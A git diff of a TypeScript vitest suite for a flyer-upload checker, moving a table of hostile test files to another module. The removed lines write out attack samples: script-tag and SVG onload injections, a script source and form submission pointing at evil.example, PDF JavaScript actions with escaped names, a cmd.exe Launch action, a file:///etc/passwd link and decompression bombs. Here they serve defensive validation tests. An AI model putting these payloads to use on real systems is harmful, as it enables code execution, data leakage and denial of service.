@@ -1,25 +1,10 @@
 /** Flyers that strangers bring, made byte by byte: each bad one is refused for what it is. */
-import { gzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
-import { LARGEST_FLYER } from '../../core/submissions/flyer.ts';
 import { checkFlyerInThread, FLYER_LIMITS } from '../../core/submissions/flyer-check.ts';
+import { HOSTILE_FLYERS } from './hostile-flyers.ts';
 import { bomb, objectStream, packed, pdfOf, streamOf } from './pdf.ts';
 
 const check = (file: Buffer | string) => checkFlyerInThread(Buffer.from(file));
-
-/** The end of an empty ZIP, whose comment is what stands behind it. */
-const zipEnd = (comment: number): Buffer => {
-  const end = Buffer.alloc(22);
-  end.write('PK\x05\x06', 'latin1');
-  end.writeUInt16LE(comment, 20);
-  return end;
-};
-const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
-const withBytesBeforeEnd = (file: Buffer, bytes: Buffer): Buffer => {
-  const end = file.lastIndexOf('%%EOF');
-  return Buffer.concat([file.subarray(0, end), bytes, Buffer.from('\n%%EOF\n')]);
-};
-const withName = (object: string): Buffer => pdfOf({ objects: [object] });
 
 describe('a flyer that is taken', () => {
   it('is a tagged PDF with text', async () => {
@@ -55,165 +40,8 @@ describe('a flyer that is taken', () => {
   });
 });
 
-const HOSTILE: readonly (readonly [string, string, () => Buffer | string])[] = [
-  ['nothing', 'empty', () => ''],
-  ['blanks', 'empty', () => ' \n '],
-  ['more than 2.5 MB', 'tooLarge', () => Buffer.alloc(LARGEST_FLYER + 1, 'a')],
-  ['2 MB of text', 'textTooLong', () => 'a'.repeat(2_000_000)],
-  ['text in UTF-16', 'unknownType', () => Buffer.from('\ufeffVigil at six', 'utf16le')],
-  ['text in Latin-1', 'unknownType', () => Buffer.from('Vigilia: ma\xf1ana', 'latin1')],
-  ['text with a null byte', 'unknownType', () => 'Vigil\0at six'],
-  ['text with an escape', 'controls', () => 'Vigil \u001b[2J at six'],
-  ['text that reads the other way', 'controls', () => 'Vigil \u202exe.piz at six'],
-  ['a page', 'markup', () => '<!doctype html><script>alert(1)</script>'],
-  ['text with a script', 'markup', () => 'Vigil at six <SCRIPT src=//evil.example></SCRIPT>'],
-  ['an SVG', 'markup', () => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
-  ['a GIF', 'unknownType', () => Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00', 'latin1')],
-  ['a program', 'unknownType', () => Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1')],
-  ['a DOCM', 'unknownType', () => Buffer.concat([Buffer.from('PK\x03\x04\x14\0'), zipEnd(0)])],
-  ['something packed', 'unknownType', () => gzipSync('Vigil at six')],
-  ['bytes before the PDF', 'unknownType', () => Buffer.concat([Buffer.from('\0\n'), pdfOf()])],
-  ['a page before the PDF', 'markup', () => `<html>${'%PDF-1.7\n'}`],
-  ['a PDF with a ZIP behind it', 'mixed', () => Buffer.concat([pdfOf(), zipEnd(0)])],
-  ['a PDF with a ZIP in its end', 'mixed', () => withBytesBeforeEnd(pdfOf(), zipEnd(7))],
-  [
-    'a PDF with a page in it',
-    'mixed',
-    () => withBytesBeforeEnd(pdfOf(), Buffer.from('<script>alert(1)</script>')),
-  ],
-  ['a PDF with a page behind it', 'mixed', () => Buffer.concat([pdfOf(), Buffer.from('<html></html>')])],
-  [
-    'a PDF with a RAR in it',
-    'mixed',
-    () => withBytesBeforeEnd(pdfOf(), Buffer.from('Rar!\x1a\x07\x00', 'latin1')),
-  ],
-  [
-    'a PDF that is a TAR',
-    'mixed',
-    () => {
-      const file = Buffer.concat([
-        Buffer.from('%PDF-1.7\n'),
-        Buffer.alloc(600, '%'),
-        Buffer.from('\n'),
-        pdfOf(),
-      ]);
-      file.write('ustar', 257, 'latin1');
-      return file;
-    },
-  ],
-  ['a PDF with no end', 'mixed', () => pdfOf().subarray(0, -7)],
-  ['only the head of a PDF', 'damaged', () => '%PDF-1.7\n%%EOF\n'],
-  ['a PDF full of noise', 'damaged', () => `%PDF-1.7\n${'x y z '.repeat(2000)}\n%%EOF\n`],
-  [
-    'a PDF whose pages lead in a circle',
-    'damaged',
-    () => Buffer.from(pdfOf().toString('latin1').replace('/Kids[10 0 R]', '/Kids[2 0 R] '), 'latin1'),
-  ],
-  [
-    'a script that runs when it is opened',
-    'active',
-    () => pdfOf({ catalog: '/OpenAction 100 0 R', objects: [SCRIPT] }),
-  ],
-  [
-    'a script whose name is written otherwise',
-    'active',
-    () => pdfOf({ catalog: '/OpenAction 100 0 R', objects: ['<</S/#4aavaScript/#4AS(1)>>'] }),
-  ],
-  [
-    'a script whose name is all escapes',
-    'active',
-    () =>
-      withName(`<</S/${[...'JavaScript'].map((sign) => `#${sign.charCodeAt(0).toString(16)}`).join('')}>>`),
-  ],
-  [
-    'a script in a packed object',
-    'active',
-    () => pdfOf({ objects: [objectStream(['<</S/JavaScript/JS(1)>>'], 200)] }),
-  ],
-  [
-    'a script, escaped in a packed object',
-    'active',
-    () => pdfOf({ objects: [objectStream(['<</S/J#61vaScript/JS(1)>>'], 200)] }),
-  ],
-  [
-    'a script in a packed object with a wrong sum',
-    'active',
-    () => {
-      const stream = objectStream(['<</S/JavaScript/JS(1)>>'], 200);
-      const end = stream.lastIndexOf('\nendstream');
-      stream.writeUInt32BE(1, end - 4);
-      return pdfOf({ objects: [stream] });
-    },
-  ],
-  [
-    'a script in a stream packed twice',
-    'damaged',
-    () =>
-      pdfOf({
-        objects: [packed(packed('<</S/JavaScript>>'), '/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode')],
-      }),
-  ],
-  ['a script on a page', 'active', () => pdfOf({ page: '/AA<</O 100 0 R>>', objects: [SCRIPT] })],
-  ['a program to launch', 'active', () => pdfOf({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' })],
-  ['a file in it', 'active', () => pdfOf({ objects: [streamOf('MZ', '/Type/EmbeddedFile')] })],
-  [
-    'a film in it',
-    'active',
-    () => pdfOf({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' }),
-  ],
-  [
-    'a form of XFA',
-    'active',
-    () => pdfOf({ catalog: '/AcroForm<</Fields[]/XFA 100 0 R>>', objects: [streamOf('xdp')] }),
-  ],
-  ['a form that sends', 'active', () => withName('<</S/SubmitForm/F(https://evil.example)>>')],
-  [
-    'a link to a script',
-    'active',
-    () =>
-      pdfOf({
-        page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]',
-      }),
-  ],
-  [
-    'a link to a file',
-    'active',
-    () =>
-      pdfOf({
-        page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(file:///etc/passwd)>>>>]',
-      }),
-  ],
-  [
-    'encryption',
-    'encrypted',
-    () =>
-      pdfOf({
-        trailer: '/Encrypt 100 0 R',
-        objects: [
-          '<</Filter/Standard/V 1/R 2/O(00000000000000000000000000000000)/U(00000000000000000000000000000000)/P -4>>',
-        ],
-      }),
-  ],
-  ['pictures of pages', 'noText', () => pdfOf({ pages: [null, null] })],
-  [
-    '21 pages',
-    'tooManyPages',
-    () => pdfOf({ pages: Array.from({ length: 21 }, (_, page) => `Page ${page}`) }),
-  ],
-  [
-    '2.3 GB of zeros in one stream',
-    'tooHeavy',
-    () => pdfOf({ objects: [streamOf(bomb(2300), '/Filter/FlateDecode')] }),
-  ],
-  [
-    'a bomb in a bomb',
-    'tooHeavy',
-    () => pdfOf({ objects: Array.from({ length: 5 }, () => streamOf(bomb(40), '/Filter/FlateDecode')) }),
-  ],
-];
-
 describe('a flyer is refused that is, or holds,', () => {
-  it.each(HOSTILE)('%s: %s', { timeout: 20_000 }, async (_, because, file) => {
+  it.each(HOSTILE_FLYERS)('%s: %s', { timeout: 20_000 }, async (_, because, file) => {
     expect(await check(Buffer.from(file()))).toEqual({ ok: false, because });
   });
 });
